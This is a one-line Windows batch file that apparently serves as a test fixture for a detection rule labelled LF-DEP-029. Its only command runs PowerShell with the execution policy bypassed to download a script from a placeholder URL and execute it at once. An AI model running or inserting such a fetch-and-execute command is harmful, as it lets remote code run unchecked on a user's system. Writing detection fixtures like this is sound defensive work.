@echo off
rem # ruleid: LF-DEP-029-script
powershell -ExecutionPolicy Bypass -c "irm https://example.com/install.ps1 | iex"
